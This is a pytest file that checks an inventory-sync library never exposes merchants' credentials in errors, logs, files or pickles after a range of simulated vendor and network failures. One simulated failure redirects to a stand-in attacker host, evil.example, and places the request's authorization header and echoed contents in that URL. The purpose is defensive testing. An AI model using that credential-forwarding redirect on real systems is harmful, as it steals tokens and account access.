"""After every kind of failure: no secret in a repr, a log, an error, a ledger, a report, a plan, a pickle."""

from __future__ import annotations

import contextlib
import json
import pickle
import socket
import threading
import traceback
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import attrs
import pytest
from fake_memory import FakeClock
from fake_ports import stock
from secret_keepers import SINKS, SOURCES, Keeper, disguised, secrets_of, written

from omsync import (
    CartSettings,
    MerchantSettings,
    PerWarehouse,
    SyncReport,
    plan_cart,
    read_inventory,
    sync_cart,
)
from omsync.errors import OmsyncError
from omsync.http.client import Http
from omsync.http.messages import Handler, Request, Response
from omsync.ledgers.sqlite import SqliteLedger

MERCHANT, CART = MerchantSettings(mode=PerWarehouse()), CartSettings(name="shop")
FIGURES = {"MUG": 5, "CUP": 6}


def echo(request: Request) -> str:
    """Write all that was sent, as a debugging page or a careless proxy does."""
    held = [*request.headers.values(), *(value for _, value in request.query)]
    return " ".join([*held, (request.content or b"").decode(), request.url])


def vendor_like(said: str) -> bytes:
    """Say it in the words of every vendor at once."""
    error = {"message": said, "code": said, "extensions": {"code": said}, "description": said}
    return json.dumps(
        {
            **error,
            "errors": [error],
            "error": said,
            "error_description": said,
            "success_code": False,
            "error_code": said,
            "title": said,
            "data": None,
            "detail": said,
        }
    ).encode()


def answering(status: int, body: Callable[[str], bytes]) -> Handler:
    def answer(request: Request) -> Response:
        return Response(status=status, content=body(echo(request)), place=request.place)

    return answer


def over_the_network(base: str) -> Iterator[Handler]:
    """Give a handler that sends for real, with all the logging of that, to another address than was meant."""
    http = Http()

    def send(request: Request) -> Response:
        return http.send(attrs.evolve(request, url=base + urlsplit(request.url).path, timeout=5.0))

    yield send
    http.close()


@contextlib.contextmanager
def hanging_up() -> Iterator[str]:
    """Take requests and close without an answer."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        closing = threading.Event()

        def serve() -> None:
            while not closing.is_set():
                connection, _ = server.accept()
                with connection:
                    connection.settimeout(5)
                    connection.recv(65536)

        thread = threading.Thread(target=serve)
        thread.start()
        address = server.getsockname()
        yield f"http://127.0.0.1:{address[1]}"
        closing.set()
        socket.create_connection(address).close()
        thread.join()


@contextlib.contextmanager
def failing(kind: str) -> Iterator[Handler]:
    match kind:
        case "401" | "403" | "404" | "422" | "429" | "500" | "503":
            yield answering(int(kind), vendor_like)
        case "200 with errors":
            yield answering(200, vendor_like)
        case "HTML":
            yield answering(200, lambda said: f"<html>{said}</html>".encode())
        case "text":
            yield answering(200, lambda said: said.encode())
        case "500 in text":
            yield answering(500, str.encode)
        case "cut off":
            yield answering(200, lambda said: vendor_like(said)[:-9])
        case "redirected":

            def point(request: Request) -> Response:
                there = f"https://evil.example/{request.headers.get('authorization', '')}?{echo(request)}"
                return Response(status=302, headers={"location": there})

            yield point
        case "lost":
            with hanging_up() as base:
                yield from over_the_network(base)
        case _:
            yield from over_the_network("https://nobody.invalid")


FAILURES = (
    *("401", "403", "404", "422", "429", "500", "503", "200 with errors", "HTML", "text", "500 in text"),
    *("cut off", "redirected", "lost", "no such host"),
)


def shown(error: BaseException | None) -> Iterator[str]:
    """Give all that an error can show, and those behind it."""
    while error is not None:
        yield from (str(error), repr(error), "".join(traceback.format_exception(error)), repr(vars(error)))
        error = error.__cause__ or error.__context__


def tell(*values: Any) -> Iterator[str]:
    """Give values in every form in which they may leave the process."""
    for value in values:
        yield from (repr(value), str(value))
        with contextlib.suppress(OmsyncError):
            yield pickle.dumps(value).decode("latin-1")
        if hasattr(value, "to_json"):
            yield value.to_json()


def after_some(handler: Handler, then: Handler, calls: int) -> Handler:
    """Let so many calls through, and then fail."""
    left = [None] * calls

    def handle(request: Request) -> Response:
        if left:
            left.pop()
            return handler(request)
        return then(request)

    return handle


def assert_hidden(secrets: set[str], told: list[str]) -> None:
    everything = "\n".join(told)
    leaked = [one for one in written(secrets) if one in everything]
    assert secrets
    assert not leaked, everything[max(0, everything.find(leaked[0]) - 300) :][:600]


@pytest.mark.parametrize("failure", FAILURES)
@pytest.mark.parametrize("name", SINKS)
def test_no_secret_of_a_sink_is_seen_after_a_failure(
    name: str, failure: str, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(0)
    original = SINKS[name](tmp_path)
    told: list[str] = []
    secrets: set[str] = set()
    with failing(failure) as handler, SqliteLedger(tmp_path / "omsync.db") as ledger:
        first = attrs.evolve(disguised(original), handler=handler)
        later = [
            attrs.evolve(original, handler=after_some(original.handler, handler, calls))
            for calls in (1, 2, 3)
            if original.handler is not None
        ]
        for sink in [first, *later]:
            told += _synced(sink, ledger)
            secrets |= secrets_of(sink)
    told += [path.read_bytes().decode("latin-1") for path in tmp_path.iterdir() if path.is_file()]

    assert_hidden(secrets, [*told, caplog.text])


def _synced(sink: Any, ledger: SqliteLedger) -> Iterator[str]:
    more: dict[str, Any] = {"merchant": MERCHANT, "ledger": ledger, "clock": FakeClock()}
    yield from tell(sink, sink.capabilities)
    for work in (sync_cart, plan_cart):
        try:
            yield from tell(work(stock(FIGURES), sink, CART, **more))
        except OmsyncError as error:
            yield from shown(error)
            report: SyncReport | None = getattr(error, "omsync_report", None)
            yield from tell(error, *filter(None, [report]))


@pytest.mark.parametrize("failure", FAILURES)
@pytest.mark.parametrize("name", SOURCES)
def test_no_secret_of_a_source_is_seen_after_a_failure(
    name: str, failure: str, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(0)
    source = SOURCES[name](tmp_path)
    told: list[str] = []
    with failing(failure) as handler, SqliteLedger(tmp_path / "omsync.db") as ledger:
        tried = [attrs.evolve(disguised(source), handler=handler)]
        if source.handler is not None:
            tried += [
                attrs.evolve(source, handler=after_some(source.handler, handler, calls))
                for calls in (1, 3, 5)
            ]
        for one in tried:
            told += tell(one, one.name, one.account)
            try:
                told += tell(read_inventory(one, MERCHANT, ledger=ledger, clock=FakeClock()))
            except OmsyncError as error:
                told += [*shown(error), *tell(error)]
    told += [path.read_bytes().decode("latin-1") for path in tmp_path.iterdir() if path.is_file()]

    assert_hidden({secret for one in tried for secret in secrets_of(one)}, [*told, caplog.text])


@pytest.mark.parametrize("make", [*SINKS.values(), *SOURCES.values()], ids=[*SINKS, *SOURCES])
def test_what_holds_a_secret_refuses_to_be_pickled(make: Keeper, tmp_path: Path) -> None:
    value = attrs.evolve(make(tmp_path), handler=None)

    with pytest.raises(OmsyncError) as caught:
        pickle.dumps(value)
    assert caught.value.code == "secret_pickled"


def test_every_http_sink_and_source_with_a_secret_is_among_them(tmp_path: Path) -> None:
    folder = Path(__file__).parents[1] / "src" / "omsync"
    modules = [
        path.name
        for part in ("sinks", "sources")
        for path in (folder / part).rglob("[a-z]*.py")
        if "Secret" in path.read_text()
    ]
    kept = {type(make(tmp_path)).__module__ for make in (*SINKS.values(), *SOURCES.values())}

    assert len(modules) > 8
    assert {module.rpartition(".")[2] + ".py" for module in kept} >= set(modules) - {"writing.py"}
